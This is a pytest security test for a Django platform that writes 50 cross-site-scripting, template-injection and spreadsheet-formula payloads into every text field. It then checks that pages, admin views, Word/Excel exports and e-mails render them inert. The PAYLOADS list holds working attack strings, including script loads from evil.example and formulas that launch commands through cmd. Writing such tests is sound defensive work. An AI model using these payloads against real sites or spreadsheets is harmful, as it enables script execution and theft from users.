"""Cross-site scripting: 50 payloads in every user-editable text field, then every page of the platform,
the admin, the audit view, the Word/Excel exports and the e-mails are read back: nothing executes.

The population is the access matrix's (records of every kind, made through the services); every free-text
column of every row is then overwritten with payloads (a long field holds all fifty, a short one as many as
fit, starting at a different payload per row and field) through the ORM, so the audit trail records the
payloads too. Every GET route of the matrix is fetched as every person allowed to use it. A page passes
when its HTML, parsed, has no script with inline code, no on* attribute, no javascript:/data: URL, no
element a payload could bring (iframe, object, embed, base, svg, meta refresh), and no payload with markup
characters appears unescaped. The same parse proves the Content-Security-Policy needs no inline script.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest
from django.apps import apps
from django.contrib import admin
from django.core import mail
from django.core.cache import cache
from django.db import models, transaction
from django.test import Client, TestCase, override_settings
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook

from zhengxie.accounts.fields import EncryptedTextField
from zhengxie.accounts.models import AuditLog, User
from zhengxie.proposals import services as proposals
from zhengxie.proposals.models import Proposal
from zhengxie.security.tests.matrix import CASES
from zhengxie.security.tests.probe import client_for
from zhengxie.security.tests.runner import url_of
from zhengxie.security.tests.scenario import Scenario, build

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/","点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
PAYLOADS = [
    *FORMULAS,
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(4)</script>',
    "'><script>alert(5)</script>",
    "</title><script>alert(6)</script>",
    "</textarea><script>alert(7)</script>",
    "</script><script>alert(8)</script>",
    "<img src=x onerror=alert(11)>",
    '<img src="x" onerror="alert(12)">',
    "<body onload=alert(13)>",
    "<svg onload=alert(14)>",
    "<svg><script>alert(15)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(17)>",
    '<iframe src="javascript:alert(18)"></iframe>',
    '<iframe srcdoc="<script>alert(19)</script>"></iframe>',
    '<a href="javascript:alert(20)">点我</a>',
    "javascript:alert(21)",
    "JaVaScRiPt:alert(22)",
    "&#106;avascript:alert(23)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=",
    "vbscript:msgbox(25)",
    '" onmouseover="alert(26)',
    "' onmouseover='alert(27)",
    '" autofocus onfocus="alert(28)',
    "` onmouseover=alert(29) `",
    'x" style="background:url(javascript:alert(30))',
    '<div style="width:expression(alert(31))">',
    "<input onfocus=alert(32) autofocus>",
    "<details open ontoggle=alert(33)>",
    '<object data="javascript:alert(35)"></object>',
    '<embed src="javascript:alert(36)">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(38)">',
    '<form action="javascript:alert(39)"><button>提交</button></form>',
    '<button formaction="javascript:alert(40)">点</button>',
    '<noscript><p title="</noscript><img src=x onerror=alert(41)>">',
    "'-alert(42)-'",
    '\\";alert(43);//',
    "{{7*7}}",
    "${7*7}",
    "{% debug %}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(49)')()}}",
    '<a href="&#x6A;avascript:alert(50)">链接</a>',
]
assert len(PAYLOADS) == 50 and len(set(PAYLOADS)) == 50
MARKUP = re.compile(r"[<>\"']")
# Template syntax from other engines: shown as typed, never evaluated.
TEMPLATE_PAYLOADS = ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% debug %}"]

# Columns the platform writes itself (codes, hashes, tokens, tree paths, workflow verbs), never a person.
MACHINE_COLUMNS = {
    "password",
    "username",
    "email",
    "path",
    "division_code",
    "client_token",
    "sha256",
    "content_type",
    "key_hash",
    "prefix",
    "dedupe_key",
    "verb",
    "action",
    "backend",
    "worker",
    "content_hash",
    "source_hash",
    "mobile_index",
    "id_number_index",
    "number",
}
# Links the platform builds itself (reverse() of a record's page), never typed by a person.
MACHINE_COLUMNS_OF = {"duties.dutyrecord": {"url"}, "notices.notification": {"url"}}
SKIP_MODELS = {"accounts.auditlog", "zx_tasks.workerheartbeat"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcdoc",
}
# (The admin draws its icons with inline <svg>; a payload's <svg> shows as unescaped markup and by its
# on* attribute instead.)
FORBIDDEN_ELEMENTS = {"iframe", "frame", "object", "embed", "applet", "base"}
SCRIPT_URL = re.compile(r"^(javascript|vbscript|data:(text/html|image/svg|application))", re.IGNORECASE)


def editable_text_fields(model: type[models.Model]) -> list[models.Field]:
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and not f.unique
        and not f.primary_key
        and (f.editable or isinstance(f, EncryptedTextField))
        and f.name not in MACHINE_COLUMNS
        and f.name not in MACHINE_COLUMNS_OF.get(model._meta.label_lower, set())
    ]


def payload_text(start: int, limit: int | None) -> str:
    """Payloads from `start` on, as many as fit in `limit` characters (at least the first, cut)."""
    order = PAYLOADS[start:] + PAYLOADS[:start]
    if limit is None or limit >= 4000:
        return " ".join(order)
    text = order[0][:limit]
    for payload in order[1:]:
        if len(text) + 1 + len(payload) > limit:
            break
        text += " " + payload
    return text


def poison() -> int:
    """Overwrite every editable text column of every row; returns the number of values written."""
    written = 0
    for model in apps.get_models():
        if not model.__module__.startswith("zhengxie.") or model._meta.label_lower in SKIP_MODELS:
            continue
        fields = editable_text_fields(model)
        if not fields:
            continue
        for row_index, obj in enumerate(model._base_manager.order_by("pk")):
            for field_index, f in enumerate(fields):
                setattr(obj, f.attname, payload_text((field_index * 7 + row_index * 3) % 50, f.max_length))
            obj.save(update_fields=[f.name for f in fields])
            written += len(fields)
    # Exports open on proposals: make sure some of them start with each formula.
    for proposal, formula in zip(Proposal.objects.order_by("pk"), FORMULAS, strict=False):
        proposal.title = formula
        proposal.save(update_fields=["title"])
    return written


# ---------------------------------------------------------------------------------------- checking


class PageParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.script: tuple[dict[str, str | None], list[str]] | None = None
        self.json_blocks: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> (event handler attribute)")
            if name in URL_ATTRIBUTES and value and SCRIPT_URL.match(re.sub(r"[\s\x00-\x1f]", "", value)):
                self.problems.append(f"<{tag} {name}={value[:60]!r}> (script URL)")
            if name == "style" and value and re.search(r"expression\(|javascript:", value, re.IGNORECASE):
                self.problems.append(f"<{tag} style={value[:60]!r}> (script in style)")
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        if tag == "script":
            self.script = (values, [])

    def handle_data(self, data: str) -> None:
        if self.script is not None:
            self.script[1].append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag != "script" or self.script is None:
            return
        values, body = self.script
        code = "".join(body).strip()
        kind = (values.get("type") or "").lower()
        if kind == "application/json":
            self.json_blocks.append(code)
        elif code:
            self.problems.append(f"inline <script>: {code[:80]!r}")
        elif not values.get("src"):
            self.problems.append("<script> without src")
        self.script = None


def check_html(html: str) -> list[str]:
    parser = PageParser()
    parser.feed(html)
    parser.close()
    problems = list(parser.problems)
    # JSON handed to scripts (json_script) escapes < > &, and is data: quotes in it are no breakout.
    outside_json = html
    for block in parser.json_blocks:
        outside_json = outside_json.replace(block, "")
    problems += [
        f"payload unescaped: {p[:60]!r}"
        for p in PAYLOADS
        if len(p) >= 6 and MARKUP.search(p) and p in outside_json
    ]
    return problems


def check_docx(data: bytes) -> list[str]:
    problems = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            text = archive.read(name).decode("utf-8")
            try:
                root = ElementTree.fromstring(text)  # noqa: S314 (our own export)
            except ElementTree.ParseError as exc:
                problems.append(f"{name}: not well-formed XML ({exc})")
                continue
            for element in root.iter():
                local = element.tag.rsplit("}", 1)[-1].lower()
                if local in {"script", "iframe", "object", "embed"}:
                    problems.append(f"{name}: <{local}> element")
                target = element.get("Target") or ""
                if SCRIPT_URL.match(target.strip()):
                    problems.append(f"{name}: link to {target[:40]!r}")
    return problems


@dataclass
class SheetReport:
    problems: list[str] = field(default_factory=list)
    neutralised: int = 0


def check_xlsx(data: bytes, report: SheetReport) -> None:
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    report.problems.append(
                        f"{sheet.title}!{cell.coordinate}: formula {str(cell.value)[:40]!r}"
                    )
                elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    if cell.data_type != "s" or not cell.quotePrefix:
                        report.problems.append(
                            f"{sheet.title}!{cell.coordinate}: {cell.value[:40]!r} not marked as text"
                        )
                    else:
                        report.neutralised += 1


# ------------------------------------------------------------------------------------------ crawl


@dataclass
class Page:
    who: str
    url: str
    status: int
    content_type: str
    body: bytes
    headers: dict[str, str]


@dataclass
class Crawl:
    s: Scenario
    written: int
    pages: list[Page] = field(default_factory=list)
    mails: list[Any] = field(default_factory=list)

    def html(self) -> Iterator[Page]:
        return (p for p in self.pages if p.content_type.startswith("text/html"))


def fetch(crawl: Crawl, client: Client, who: str, url: str) -> Page:
    response = client.get(url)
    body = b"".join(response.streaming_content) if response.streaming else response.content
    page = Page(
        who=who,
        url=url,
        status=response.status_code,
        content_type=response.get("Content-Type", ""),
        body=body,
        headers={k: v for k, v in response.items()},
    )
    crawl.pages.append(page)
    return page


def crawl_everything(s: Scenario, written: int) -> Crawl:
    crawl = Crawl(s=s, written=written)
    clients = {name: client_for(user) for name, user in s.users.items()}
    for case in CASES:
        if case.method != "GET":
            continue
        people = [u for u in case.users if u in case.allow and (u != "anon" or case.public)]
        for who in people:
            cache.clear()  # the public pages' rate limits
            fetch(crawl, clients[who], who, url_of(case, s))

    # The audit view, several pages of it, as the auditor: the trail holds every payload written.
    auditor = clients["auditor"]
    for page in range(1, 6):
        fetch(crawl, auditor, "auditor", f"/accounts/audit/?page={page}")
    fetch(crawl, auditor, "auditor", "/accounts/audit/?action=update")

    # The admin, as a superuser: every model's list, add and change pages.
    root = User.objects.create_superuser("xssroot", password="Zx-test-2026")
    boss = client_for(root)
    fetch(crawl, boss, "superuser", "/admin/")
    for model in admin.site._registry:
        info = (model._meta.app_label, model._meta.model_name)
        fetch(crawl, boss, "superuser", reverse("admin:{}_{}_changelist".format(*info)))
        fetch(crawl, boss, "superuser", reverse("admin:{}_{}_changelist".format(*info)) + "?q=%3Cscript%3E")
        first = model._default_manager.order_by("pk").first()
        if first is not None:
            fetch(crawl, boss, "superuser", reverse("admin:{}_{}_change".format(*info), args=[first.pk]))

    # A real flow after the poisoning: the member submits a draft whose title is all payloads, and the
    # office is mailed about it (the e-mail task runs on commit).
    office = s.users["office"]
    office.email = "office1@example.com"
    office.save(update_fields=["email"])
    draft = s.refresh("p_draft")
    mail.outbox = []
    with TestCase.captureOnCommitCallbacks(execute=True):
        proposals.proposal_submit(proposal=draft, user=s.users["member"])
    crawl.mails = list(mail.outbox)
    return crawl


@pytest.fixture(scope="module")
def crawl(django_db_setup, django_db_blocker, tmp_path_factory) -> Iterator[Crawl]:  # type: ignore[no-untyped-def]
    with (
        django_db_blocker.unblock(),
        override_settings(
            MEDIA_ROOT=tmp_path_factory.mktemp("media"),
            EMAIL_BACKEND="django.core.mail.backends.locmem.EmailBackend",
        ),
        transaction.atomic(),
    ):
        s = build()
        written = poison()
        yield crawl_everything(s, written)
        transaction.set_rollback(True)


# ------------------------------------------------------------------------------------------ tests


def test_every_payload_went_into_the_data(crawl):
    assert crawl.written > 500
    stored = " ".join(str(v) for v in Proposal.objects.values_list("background", flat=True))
    assert all(p in stored for p in PAYLOADS)
    assert AuditLog.objects.filter(action="update", after__icontains="onerror").exists()


def test_no_server_error_on_any_page(crawl):
    errors = [f"{p.who} {p.url} -> {p.status}" for p in crawl.pages if p.status >= 500]
    assert not errors, "\n".join(errors)
    assert len([p for p in crawl.html() if p.status == 200]) > 150


# django-ninja serves its Swagger page from a CDN template with an inline script unless "ninja" is in
# INSTALLED_APPS (then it uses its bundled, script-free template and static files).
NINJA_DOCS = "/api/v1/docs"


def test_no_page_renders_a_payload_that_could_run(crawl):
    problems = []
    for page in crawl.html():
        if page.url == NINJA_DOCS:
            continue
        problems += [f"{page.who} {page.url}: {p}" for p in check_html(page.body.decode("utf-8", "replace"))]
    assert not problems, "\n".join(sorted(set(problems))[:80])


def test_api_docs_page_has_no_inline_script(crawl):
    pages = [p for p in crawl.html() if p.url == NINJA_DOCS]
    assert pages
    assert check_html(pages[0].body.decode()) == []


def test_admin_and_audit_view_were_read_with_the_payloads(crawl):
    """Controls for the test above: the payloads did reach the admin and the audit view, escaped."""
    escaped = [escape(p) for p in PAYLOADS if len(p) >= 6 and MARKUP.search(p)]
    for prefix in ("/admin/org/member/", "/admin/org/committee/", "/accounts/audit/"):
        pages = [p.body.decode() for p in crawl.html() if p.url.startswith(prefix) and p.status == 200]
        assert pages, prefix
        assert any(e in page for page in pages for e in escaped), prefix


def test_template_syntax_is_shown_as_typed(crawl):
    text = "\n".join(p.body.decode("utf-8", "replace") for p in crawl.html())
    for payload in TEMPLATE_PAYLOADS:
        assert payload.replace("<", "&lt;").replace(">", "&gt;") in text, payload


def test_every_page_has_the_csp_without_inline_script(crawl):
    for page in crawl.html():
        policy = page.headers.get("Content-Security-Policy", "")
        assert "script-src 'self'" in policy, page.url
        assert "unsafe-inline" not in policy and "unsafe-eval" not in policy, page.url
        assert page.headers.get("X-Content-Type-Options") == "nosniff", page.url


def test_api_answers_json_with_nosniff(crawl):
    api = [
        p for p in crawl.pages if p.url.startswith("/api/v1/") and p.status == 200 and "openapi" not in p.url
    ]
    assert api
    for page in api:
        if page.url.rstrip("/").endswith("/docs"):
            continue
        assert page.content_type.startswith("application/json"), page.url
        assert page.headers.get("X-Content-Type-Options") == "nosniff", page.url


def test_exports_keep_payloads_as_text(crawl):
    docx = xlsx = 0
    sheets = SheetReport()
    problems: list[str] = []
    for page in crawl.pages:
        if page.status != 200 or page.body[:4] != b"PK\x03\x04":
            continue
        assert page.headers.get("Content-Disposition", "").startswith("attachment"), page.url
        with zipfile.ZipFile(io.BytesIO(page.body)) as archive:
            names = set(archive.namelist())
        if "word/document.xml" in names:
            docx += 1
            problems += [f"{page.url}: {p}" for p in check_docx(page.body)]
        elif "xl/workbook.xml" in names:
            xlsx += 1
            before = len(sheets.problems)
            check_xlsx(page.body, sheets)
            problems += [f"{page.url}: {p}" for p in sheets.problems[before:]]
    assert docx and xlsx
    assert not problems, "\n".join(sorted(set(problems))[:60])
    assert sheets.neutralised > 0  # control: formula-like text did reach a spreadsheet


def test_mails_are_plain_text(crawl):
    assert crawl.mails, "the submission mailed nobody"
    for message in crawl.mails:
        assert message.content_subtype == "plain"
        assert not getattr(message, "alternatives", None)
        assert "\n" not in message.subject and "\r" not in message.subject
        assert any(p in message.body + message.subject for p in PAYLOADS)  # as typed: text, not markup


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p not in TEMPLATE_PAYLOADS and p not in FORMULAS])
def test_the_page_check_catches_each_payload_left_unescaped(payload):
    """Control: were a template to print a payload raw, in text or in a link, the check would say so."""
    in_text = check_html(f"<html><body><p>{payload}</p></body></html>")
    in_link = check_html(f'<html><body><a href="{payload}">x</a></body></html>')
    unquoted = check_html(f"<html><body><p title={payload}>x</p></body></html>")
    assert in_text or in_link or unquoted, payload
    assert check_html(f"<html><body><p>{escape(payload)}</p></body></html>") == []
